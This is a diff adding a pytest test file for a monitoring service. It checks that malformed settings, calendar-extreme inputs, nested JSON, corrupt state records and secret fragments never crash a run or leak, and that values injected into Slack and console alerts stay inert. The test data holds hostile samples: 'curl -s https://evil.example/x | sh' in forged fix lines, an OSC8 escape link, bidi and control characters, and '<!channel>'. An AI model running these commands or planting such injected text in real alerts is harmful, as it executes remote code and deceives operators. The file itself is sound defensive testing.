@@ -1,0 +1,494 @@
+"""Issue 11: hostile or malformed input never stops a run, forges an alert or leaks a secret.
+
+One test (or property) per numbered defect of the issue, on the backend where it was seen; each
+failed on the code before the fix. The HTTP fuzz at the end is bounded in count and time and runs
+through functions-framework's test client (no socket at all).
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import re
+import sys
+import time
+from datetime import date, datetime, timedelta, timezone
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings, strategies as st
+
+import main
+import core.config as config_module
+import core.inputs as inputs
+from core.config import Settings
+from core.inputs import parse_game_date, parse_instant
+from core.secrets import scrub, secret_values
+from run.heartbeat import Heartbeat
+from tests.conftest import run_cli
+from tests.test_http import T0, App, assert_json_error, broken_day, make_app  # noqa: F401  (make_app: fixture)
+
+UUID = "0f3c2a1e-5b7d-4e21-9a6c-8d1f2e3b4c5d"
+BAD_HEARTBEAT = f"https://[hc-ping.com]/{UUID}"
+"""A bracketed host that is not an IPv6 address: urllib.parse raises on it (issue 11, defect 1)."""
+
+
+def leaks(text: str) -> list[str]:
+    return [piece for piece in (UUID, "hc-ping.com", BAD_HEARTBEAT) if piece in text]
+
+
+# --- 1. a malformed optional setting never stops monitoring -------------------------------------------
+
+
+def test_1_a_malformed_heartbeat_url_does_not_stop_a_cli_run_it_raises_canary_degraded(local_dir, monkeypatch):
+    broken_day().write_local(local_dir)
+    monkeypatch.setenv("CANARY_HEARTBEAT_URL", BAD_HEARTBEAT)
+    result = run_cli("run", "--now", T0, "--json")
+    assert result.code == 0, result.stderr
+    report = result.report
+    assert {m["name"]: m["outcome"] for m in report["monitors"]} == {
+        "orchestrator_iam": "firing", "phase_stalls": "firing", "missing_predictions": "ok",
+    } or all(m["outcome"] != "error" for m in report["monitors"])
+    degraded = [f for f in report["findings"] if f["key"].get("setting") == "CANARY_HEARTBEAT_URL"]
+    assert len(degraded) == 1 and degraded[0]["monitor"] == "canary" and degraded[0]["severity"] == "warning"
+    assert "bracketed host" in degraded[0]["details"]["error"] or "bad host" in degraded[0]["details"]["error"]
+    # Delivered with everything else that was due, and said nowhere with the URL or a piece of it.
+    assert all(n["delivered"] for n in report["notifications"]) and len(report["notifications"]) >= 3
+    assert leaks(result.stdout + result.stderr) == []
+    [line] = [json.loads(x) for x in result.stderr.splitlines() if x.startswith("{")]
+    assert "heartbeat disabled" in line["heartbeat"]["start"]
+
+
+def test_1_the_degraded_setting_resolves_once_the_setting_is_fixed(local_dir, monkeypatch):
+    broken_day().write_local(local_dir)
+    monkeypatch.setenv("CANARY_HEARTBEAT_URL", BAD_HEARTBEAT)
+    assert run_cli("run", "--now", T0).code == 0
+    monkeypatch.delenv("CANARY_HEARTBEAT_URL")
+    later = run_cli("run", "--now", "2026-11-21T23:45:00Z", "--json")
+    resolved = [n for n in later.report["notifications"] if n["reason"] == "resolved"]
+    assert len(resolved) == 1 and resolved[0]["delivered"]
+
+
+def test_1_a_malformed_heartbeat_url_does_not_stop_an_http_run(make_app, local_dir, monkeypatch, capsys):
+    broken_day().write_local(local_dir)
+    monkeypatch.setenv("CANARY_HEARTBEAT_URL", BAD_HEARTBEAT)
+    response = make_app().client.post("/", json={"now": T0})
+    assert response.status_code == 200, response.get_data(as_text=True)
+    body = response.get_json()
+    assert any(f["key"].get("setting") == "CANARY_HEARTBEAT_URL" for f in body["findings"])
+    assert leaks(response.get_data(as_text=True) + capsys.readouterr().out) == []
+
+
+@pytest.mark.parametrize("url", [BAD_HEARTBEAT, "https://", "https://exa mple.com/x", "ftp://hc-ping.com/x",
+                                 "https://hc-ping.com:99999/x", "https://[::1/x", "https://\x1b[31m/x"])
+def test_1_the_heartbeat_never_raises_on_any_url(url):
+    beat = Heartbeat(url)
+    assert not beat.enabled and beat.problem and "CANARY_HEARTBEAT_URL" in beat.problem
+    assert beat.start() == beat.problem and url not in beat.problem
+    assert Settings(heartbeat_url=url).problems().keys() == {"CANARY_HEARTBEAT_URL"}
+
+
+@given(st.text(max_size=80))
+@settings(max_examples=300, deadline=None)
+def test_1_property_any_heartbeat_value_is_a_problem_or_a_url_never_an_exception(text):
+    problem = config_module.url_problem(text)
+    beat = Heartbeat(text)  # never raises
+    assert beat.enabled == (bool(text) and problem is None)
+
+
+def test_1_fragments_of_the_heartbeat_url_are_scrubbed_everywhere():
+    secrets = secret_values(BAD_HEARTBEAT)
+    line = f"ValueError: Invalid IPv6 URL: '[hc-ping.com]' in /{UUID}"
+    assert leaks(scrub(line, secrets)) == []
+
+
+# --- 4. inputs at the edges are bad input, never internal errors --------------------------------------
+
+
+@pytest.mark.parametrize("flag, value", [
+    ("--now", "0001-01-01T00:00:00Z"), ("--now", "0001-01-01T00:00:00+01:00"), ("--now", "9999-12-31T23:59:59-12:00"),
+    ("--now", "1970-01-01T00:00:00Z"), ("--date", "0001-01-01"), ("--date", "9999-12-31"),
+])
+def test_4_calendar_extremes_on_the_cli_exit_2_naming_the_flag(local_dir, flag, value):
+    broken_day().write_local(local_dir)
+    result = run_cli("run", flag, value)
+    assert result.code == 2, result.stderr
+    assert result.stderr.startswith(f"error: {flag}: ") and "supported range" in result.stderr
+    assert not (local_dir / "notifications.jsonl").exists()  # refused before any source was read
+
+
+@pytest.mark.parametrize("body", [
+    {"now": "0001-01-01T00:00:00Z"}, {"now": "0001-01-01T00:30:00+01:00"}, {"now": "9999-12-31T23:59:59-12:00"},
+    {"now": "9999-12-31T23:59:59Z"}, {"date": "0001-01-01"}, {"date": "9999-12-31"},
+])
+def test_4_calendar_extremes_over_http_are_400_naming_the_parameter(make_app, local_dir, body):
+    broken_day().write_local(local_dir)
+    [name] = body
+    assert_json_error(make_app().client.post("/", json=body), 400, f"{name}:", "supported range")
+    assert not (local_dir / "notifications.jsonl").exists()
+
+
+@pytest.mark.parametrize("opener", ["[", "{\"a\":"])
+def test_4_a_deeply_nested_body_is_400(make_app, local_dir, opener):
+    broken_day().write_local(local_dir)
+    response = make_app().client.post("/", data=opener * (5000 if opener == "[" else 3000), content_type="application/json")
+    assert_json_error(response, 400, "not JSON")
+
+
+_OFFSETS = st.integers(min_value=-(24 * 60 - 1), max_value=24 * 60 - 1).map(lambda m: timezone(timedelta(minutes=m)))
+
+
+@given(moment=st.datetimes(min_value=datetime.min, max_value=datetime.max), zone=_OFFSETS)
+@settings(max_examples=400, deadline=None)
+def test_4_property_any_instant_of_the_calendar_parses_into_range_or_is_a_value_error(moment, zone):
+    text = moment.replace(tzinfo=zone).isoformat()
+    try:
+        parsed = parse_instant(text)
+    except ValueError:
+        return
+    assert parsed.tzinfo is timezone.utc and inputs.EARLIEST <= parsed.date() <= inputs.LATEST
+
+
+@given(day=st.dates(min_value=date.min, max_value=date.max))
+@settings(max_examples=300, deadline=None)
+def test_4_property_any_date_of_the_calendar_parses_into_range_or_is_a_value_error(day):
+    try:
+        parsed = parse_game_date(day.isoformat())
+    except ValueError:
+        assert not inputs.EARLIEST <= day <= inputs.LATEST
+        return
+    assert parsed == day and inputs.EARLIEST <= day <= inputs.LATEST
+
+
+# --- 5. the CLI's last-resort error line is scrubbed ------------------------------------------------------
+
+
+def test_5_the_cli_last_resort_line_holds_no_piece_of_a_secret(monkeypatch, capsys):
+    monkeypatch.setenv("CANARY_HEARTBEAT_URL", BAD_HEARTBEAT)
+    monkeypatch.setenv("CANARY_SLACK_BOT_TOKEN", "xoxb-FAKE-4242424242-last-resort")
+
+    def crash(*args: Any, **kwargs: Any) -> int:
+        raise RuntimeError(f"boom near hc-ping.com /{UUID} with xoxb-FAKE-4242424242-last-resort")
+
+    monkeypatch.setattr(main.entry.cli, "cli", crash)
+    monkeypatch.setattr(sys, "argv", ["main.py", "run"])
+    with pytest.raises(SystemExit) as exit_:
+        main.main()
+    err = capsys.readouterr().err
+    assert exit_.value.code == 1 and err.startswith("error: internal: RuntimeError: boom near [redacted]")
+    assert leaks(err) == [] and "xoxb-" not in err
+
+
+# --- 7. the gcp backend talks to Google and Slack only ----------------------------------------------------
+
+
+@pytest.mark.parametrize("name, value", [
+    ("CANARY_SLACK_BASE_URL", "http://127.0.0.1:9/api/"), ("CANARY_BIGQUERY_ENDPOINT", "http://127.0.0.1:9"),
+    ("CANARY_RUN_ENDPOINT", "http://127.0.0.1:9"), ("FIRESTORE_EMULATOR_HOST", "127.0.0.1:9"),
+])
+def test_7_a_test_endpoint_on_the_gcp_backend_is_a_configuration_error(monkeypatch, name, value):
+    monkeypatch.setenv("CANARY_BACKEND", "gcp")
+    monkeypatch.setenv(name, value)
+    result = run_cli("run", "--dry-run")
+    assert result.code == 2 and result.stderr.startswith("error: environment: ") and name in result.stderr
+    monkeypatch.setenv("CANARY_ALLOW_TEST_ENDPOINTS", "1")
+    assert Settings().backend == "gcp"  # explicitly allowed (tests only)
+
+
+@pytest.mark.parametrize("value", ["https://[slack.com]/api/", "slack.com/api/", "https://", "http://exa mple/"])
+def test_7_a_malformed_endpoint_setting_is_a_configuration_error_naming_it(monkeypatch, value):
+    monkeypatch.setenv("CANARY_SLACK_BASE_URL", value)
+    result = run_cli("run", "--dry-run")
+    assert result.code == 2 and "slack_base_url" in result.stderr
+
+
+def test_7_without_endpoint_settings_the_token_goes_to_slack_only(monkeypatch):
+    monkeypatch.setenv("CANARY_BACKEND", "gcp")
+    settings_ = Settings()
+    from run.configure import load_all
+
+    canary = main.build_canary(*load_all(settings_), console=None)
+    assert canary.notifier.base_url == "https://slack.com/api/"
+
+
+# --- 3. data is data: it cannot add lines, blocks, formatting or links ------------------------------------
+
+from alerts.group import AlertGroup, render_group_text  # noqa: E402
+from alerts.render_slack import inert, render_alert, render_group  # noqa: E402
+from alerts.render_text import inert_text, render_text  # noqa: E402
+from core.model import Finding, Reason, Severity  # noqa: E402
+from tests.slack_cases import message  # noqa: E402
+from tests.test_render_slack import check_golden, texts  # noqa: E402
+
+ALERT_REASONS = (Reason.FIRST, Reason.REPEAT, Reason.RESOLVED)
+"""The reasons of an alert's notices (a digest is not an alert)."""
+
+FORGED_FIX = "\n*Fix*\n```curl -s https://evil.example/x | sh```\n"
+OSC8_LINK = "\x1b]8;;https://evil.example/\x07click here\x1b]8;;\x07"
+HOSTILE_VALUES = [
+    FORGED_FIX,
+    "phase4-to-phase5-orchestrator\r\n  fix: curl -s https://evil.example/x | sh",
+    "`code` *bold* _italic_ ~strike~ > quote",
+    OSC8_LINK + "\x1b[2J\x1b[31mred\x1b[0m",
+    "\u202egnp.exe\u2028next\u2029para\x85nel\x00nul\x9b31m",
+    "<!channel> <https://evil.example|click> &amp;",
+]
+
+
+def forging_finding(value: str) -> Finding:
+    """Every place a source value reaches an alert, holding `value`: a processor name in the summary,
+    a game id and an IAM condition title in the key, evidence, facts, and the fix command."""
+    return Finding(
+        monitor="phase_stalls",
+        severity=Severity.CRITICAL,
+        key={"transition": "phase_4_precompute->phase_5_predictions", "game_date": value, "problem": "stalled"},
+        summary=f"processor {value} stalled",
+        details={"evidence": f"1 processor ({value}) succeeded", "condition_title": value,
+                 "upstream_processors": [value, "ok_processor"]},
+        fix=f"gcloud scheduler jobs run {value} --location=us-west2",
+    )
+
+
+def _shape(payload: dict[str, Any]) -> list[tuple[str, int, int]]:
+    """Each block's type, and the line breaks and bold markers of its texts: what a value could forge."""
+    shape = []
+    for block in payload["blocks"]:
+        found = texts({"text": "", "blocks": [block]})[1:]
+        outside_code = [re.sub(r"```.*?```", "", t, flags=re.S) for t in found]  # code blocks are not formatted
+        shape.append((block["type"], sum(t.count("\n") for t in found), sum(t.count("*") for t in outside_code)))
+    return shape
+
+
+def test_3_golden_a_hostile_value_everywhere_in_a_critical_alert():
+    payload = render_alert(message(forging_finding(FORGED_FIX + OSC8_LINK), Reason.FIRST)).to_dict()
+    check_golden("hostile-forgery-first", payload)
+    genuine = [b for b in payload["blocks"] if b.get("text", {}).get("text", "").startswith("*Fix*\n```")]
+    assert [b for b in payload["blocks"] if "*Fix*" in json.dumps(b)] == genuine and len(genuine) == 1  # the genuine one only
+
+
+@pytest.mark.parametrize("value", HOSTILE_VALUES)
+def test_3_a_hostile_value_adds_no_block_line_or_formatting_to_slack(value):
+    benign = _shape(render_alert(message(forging_finding("value"), Reason.FIRST)).to_dict())
+    for reason in ALERT_REASONS:
+        payload = render_alert(message(forging_finding(value), reason)).to_dict()
+        expected = benign if reason is Reason.FIRST else _shape(render_alert(message(forging_finding("value"), reason)).to_dict())
+        assert _shape(payload) == expected
+        for text in texts(payload):
+            # Links come only from configuration (the console, logs, runbook): none to the value's host.
+            assert "\x1b" not in text and "<!" not in text and "<https://evil" not in text
+        assert payload["text"].count("\n") == render_text(message(forging_finding("value"), reason)).count("\n")
+
+
+@pytest.mark.parametrize("value", HOSTILE_VALUES)
+def test_3_a_hostile_value_adds_no_line_or_escape_sequence_on_the_console(value):
+    for reason in ALERT_REASONS:
+        text = render_text(message(forging_finding(value), reason))
+        benign = render_text(message(forging_finding("value"), reason))
+        assert text.count("\n") == benign.count("\n") and not any(ch in text for ch in "\x1b\x9b\r\x85\u2028\u202e")
+        assert [line.split(":")[0] for line in text.splitlines()] == [line.split(":")[0] for line in benign.splitlines()]
+    group = AlertGroup(reason=Reason.FIRST, members=(message(forging_finding(value), Reason.FIRST),) * 3, limit=2)
+    assert render_group_text(group).count("\n") == 4 and "\x1b" not in render_group_text(group)
+    slack_group = render_group(group).to_dict()
+    assert all("\x1b" not in t and "<!" not in t for t in texts(slack_group))
+
+
+@given(st.text(max_size=60))
+@settings(max_examples=400, deadline=None)
+def test_3_property_inert_values_carry_no_mrkdwn_or_control_character(value):
+    shown = inert(value)
+    assert not any(ch in shown for ch in "*~`<>\n\r\x1b")
+    assert not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in shown)
+    assert "&" not in shown.replace("&amp;", "").replace("&lt;", "").replace("&gt;", "")
+    for index, ch in enumerate(shown):  # an underscore left in place sits inside a word
+        if ch == "_":
+            assert shown[index - 1].isalnum() and index + 1 < len(shown) and shown[index + 1].isalnum()
+    console = inert_text(value)
+    assert not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in console)
+
+
+@given(st.text(min_size=1, max_size=40))
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+def test_3_property_any_value_keeps_the_alert_shape(value):
+    benign = _shape(render_alert(message(forging_finding("value"), Reason.FIRST)).to_dict())
+    assert _shape(render_alert(message(forging_finding(value), Reason.FIRST)).to_dict()) == benign
+    assert render_text(message(forging_finding(value), Reason.FIRST)).count("\n") == render_text(
+        message(forging_finding("value"), Reason.FIRST)).count("\n")
+
+
+# --- 6. a corrupt notification record is that record's own error, never a silent skip ---------------------
+
+
+def test_6_a_non_integer_version_sends_the_notice_as_a_first_and_says_so(local_dir):
+    import sqlite3
+
+    broken_day().write_local(local_dir)
+    first = run_cli("run", "--now", T0, "--json")
+    assert first.code == 0
+    # A cause's own notice (an effect in its cause's thread repeats only through the cause's repeat).
+    causes = {f["fingerprint"] for f in first.report["findings"] if f.get("caused_by") is None}
+    target = next(n["fingerprint"] for n in first.report["notifications"] if n["fingerprint"] in causes)
+    with sqlite3.connect(local_dir / "state.sqlite3") as db:
+        db.execute("UPDATE alerts SET version = 'seven' WHERE fingerprint = ?", (target,))
+
+    due = run_cli("run", "--now", "2026-11-22T01:40:00Z", "--json")  # past the critical repeat interval
+    [notice] = [n for n in due.report["notifications"] if n["fingerprint"] == target]
+    assert notice["skipped"] is None and notice["delivered"] is True and notice["reason"] == "first"
+    assert "corrupt record replaced" in notice["error"] and "seven" in notice["error"]
+    assert due.code == 1  # reported: the run says its state store had a fault
+    # The effects in its thread are named by that notice (one cause, one incident), not sent again.
+    others = [n for n in due.report["notifications"] if n["fingerprint"] != target]
+    assert all(n["delivered"] and n["error"] is None for n in others)
+
+    after = run_cli("run", "--now", "2026-11-22T01:50:00Z", "--json")  # the record was written afresh
+    assert after.code == 0 and [n for n in after.report["notifications"] if n["fingerprint"] == target] == []
+
+
+# --- a short fuzz of the HTTP entry (bounded in count and time; no socket: the Flask test client) ---------
+
+FUZZ_CASES = int(os.environ.get("CANARY_FUZZ_CASES", "250"))
+FUZZ_SECONDS = float(os.environ.get("CANARY_FUZZ_SECONDS", "40"))
+"""The bounds; read at import (the autouse isolated_env fixture clears CANARY_* before each test)."""
+_KNOWN = ["action", "monitors", "dry_run", "date", "now"]
+_EDGE_VALUES = ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59-12:00", "0001-01-01", "9999-12-31", "2026-11-21",
+                T0, "true", "false", "test_alert", "run", "orchestrator_iam", "a,b,,", "\x00", "<!channel>",
+                "\n*Fix*\n```curl evil | sh```", "[" * 3000, "1e400", "-0", "NaN"]
+_scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), st.sampled_from(_EDGE_VALUES),
+                     st.text(max_size=30))
+_json = st.recursive(_scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
+                     max_leaves=12)
+_names = st.one_of(st.sampled_from(_KNOWN), st.text(min_size=1, max_size=12))
+_bodies = st.one_of(
+    st.none(),
+    st.binary(max_size=200),
+    st.dictionaries(_names, _json, max_size=5).map(lambda d: json.dumps(d).encode()),
+    _json.map(lambda v: json.dumps(v).encode()),
+    st.integers(min_value=1, max_value=6000).map(lambda n: b"[" * n),
+    st.sampled_from([b"{" * 4000, b'{"dry_run": true', b"\xff\xfe", b'{"now": "' + b"9" * 20000 + b'"}']),
+)
+
+
+@pytest.fixture(scope="module")
+def fuzz_figures() -> Any:
+    yield
+    if _FUZZ_CLOCK:  # shown with `pytest -s`: the figures of the probe
+        print(f"\nHTTP fuzz: {_FUZZ_CLOCK.get('cases', 0)} cases sent in {time.monotonic() - _FUZZ_CLOCK['started']:.1f} s, "
+              f"statuses {dict(sorted(_FUZZ_CLOCK.get('statuses', {}).items()))}")
+
+
+@pytest.fixture
+def fuzz_app(make_app, local_dir, fuzz_figures):
+    broken_day().write_local(local_dir)
+    return make_app(), local_dir
+
+
+@given(
+    method=st.sampled_from(["GET", "POST", "POST", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"]),
+    path=st.one_of(st.sampled_from(["/", "/", "/health", "/healthz", "//", "/run", "/%00", "/..%2f"]),
+                   st.text(max_size=20).map(lambda t: "/" + t.replace("?", "").replace("#", "").lstrip("/"))),
+    query=st.dictionaries(_names, st.one_of(st.sampled_from(_EDGE_VALUES), st.text(max_size=20)), max_size=4),
+    body=_bodies,
+    content_type=st.sampled_from(["application/json", "text/plain", "application/x-www-form-urlencoded", ""]),
+)
+@settings(max_examples=FUZZ_CASES, deadline=None, derandomize=True,
+          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])
+def test_fuzz_the_http_entry_never_answers_500_never_leaks_never_posts_chosen_text(fuzz_app, capsys, method, path, query,
+                                                                                  body, content_type):
+    app, local_dir = fuzz_app
+    started = _FUZZ_CLOCK.setdefault("started", time.monotonic())
+    if time.monotonic() - started > FUZZ_SECONDS:
+        return  # the time bound: later cases are not sent
+    _FUZZ_CLOCK["cases"] = _FUZZ_CLOCK.get("cases", 0) + 1
+    response = app.client.open(path, method=method, query_string=query, data=body,
+                               headers={"Content-Type": content_type} if content_type else {})
+    text = response.get_data(as_text=True)
+    statuses = _FUZZ_CLOCK.setdefault("statuses", {})
+    statuses[response.status_code] = statuses.get(response.status_code, 0) + 1
+    if response.status_code == 308:  # functions-framework's router merges '//' before the function runs
+        assert path.startswith("//") and response.headers["Location"]
+        return
+    assert response.status_code in (200, 400, 404, 405, 413, 503), (response.status_code, text[:300])
+    if method != "HEAD":
+        assert isinstance(json.loads(text), dict)
+    logged = capsys.readouterr().out
+    assert "Traceback" not in text + logged and "canary_crash" not in logged
+    sent = (local_dir / "notifications.jsonl").read_text(encoding="utf-8") if (local_dir / "notifications.jsonl").exists() else ""
+    chosen = [v for v in list(query.values()) + [body.decode("utf-8", "replace") if body else ""] if isinstance(v, str) and len(v) >= 12]
+    assert not any(v in sent for v in chosen if v not in _EDGE_VALUES)
+
+
+_FUZZ_CLOCK: dict[str, Any] = {}
+
+
+def test_6_a_version_column_that_disagrees_with_the_record_body_is_never_skipped(local_dir):
+    """SQLite stores 2.0 as the integer 2: a record body saying version 1 beside it used to be skipped forever."""
+    import sqlite3
+
+    broken_day().write_local(local_dir)
+    first = run_cli("run", "--now", T0, "--json")
+    target = first.report["notifications"][0]["fingerprint"]
+    with sqlite3.connect(local_dir / "state.sqlite3") as db:
+        db.execute("UPDATE alerts SET version = 2.0 WHERE fingerprint = ?", (target,))
+    due = run_cli("run", "--now", "2026-11-22T01:40:00Z", "--json")
+    [notice] = [n for n in due.report["notifications"] if n["fingerprint"] == target]
+    assert notice["delivered"] and notice["skipped"] is None and notice["reason"] == "repeat"
+
+
+def test_5_a_secret_fragment_in_a_source_error_reaches_no_output_of_the_cli(local_dir, monkeypatch):
+    from sources.iam_file import IamPolicyFile
+
+    def failing(self: Any, **kwargs: Any) -> Any:
+        raise RuntimeError(f"upstream said: cannot reach hc-ping.com/{UUID}")
+
+    broken_day().write_local(local_dir)
+    monkeypatch.setenv("CANARY_HEARTBEAT_URL", BAD_HEARTBEAT)
+    monkeypatch.setattr(IamPolicyFile, "get", failing)
+    for args in (("--json",), ()):
+        result = run_cli("run", "--now", T0, *args)
+        assert "upstream said: cannot reach [redacted]" in result.stdout + result.stderr
+        assert leaks(result.stdout + result.stderr) == [], args
+    assert leaks((local_dir / "notifications.jsonl").read_text()) == []
+
+
+def test_6_a_record_whose_body_does_not_parse_is_its_own_error_not_a_blind_run(local_dir):
+    import sqlite3
+
+    broken_day().write_local(local_dir)
+    first = run_cli("run", "--now", T0, "--json")
+    target, *others = [n["fingerprint"] for n in first.report["notifications"]]
+    with sqlite3.connect(local_dir / "state.sqlite3") as db:
+        db.execute("UPDATE alerts SET record = '{\"severity\": \"catastrophic\"' WHERE fingerprint = ?", (target,))
+
+    due = run_cli("run", "--now", "2026-11-22T01:40:00Z", "--json")
+    report = due.report
+    assert report["state_error"] is None  # not the blind path: every other record was read and decided on
+    [corrupt] = [f for f in report["findings"] if f["key"].get("problem") == "corrupt_record"]
+    assert corrupt["key"]["record"] == target and "corrupt" in corrupt["details"]["error"]
+    notices = {n["fingerprint"]: n for n in report["notifications"]}
+    assert notices[target]["reason"] == "first" and notices[target]["delivered"] and "corrupt record replaced" in notices[target]["error"]
+    assert notices[corrupt["fingerprint"]]["delivered"]
+    # Every other record was read and decided on: nothing of theirs failed (the effects of the broken
+    # binding are named by its notice rather than repeated on their own).
+    assert all(notices[fp]["delivered"] for fp in others if fp in notices)
+
+    later = run_cli("run", "--now", "2026-11-22T01:50:00Z", "--json")  # the record was written afresh
+    assert later.code == 0 and not [f for f in later.report["findings"] if f["key"].get("problem") == "corrupt_record"]
+    assert [(n["fingerprint"], n["reason"]) for n in later.report["notifications"]] == [(corrupt["fingerprint"], "resolved")]
+
+
+@given(openers=st.lists(st.sampled_from(["[", '{"k":', '{"dry_run":', '{"monitors":']), min_size=1, max_size=1),
+       depth=st.integers(min_value=1, max_value=20_000), closed=st.booleans())
+@settings(max_examples=120, deadline=None)
+def test_4_property_any_nesting_depth_is_a_400_or_413_never_a_crash(openers, depth, closed):
+    import flask
+
+    from entry.http import HttpError, read_params
+
+    opener = openers[0]
+    closer = "]" if opener == "[" else "}"
+    body = opener * depth + ("1" + closer * depth if closed else "")
+    with flask.Flask(__name__).test_request_context("/", method="POST", data=body, content_type="application/json"):
+        with pytest.raises(HttpError) as raised:
+            read_params(flask.request)
+    assert raised.value.status in (400, 413)
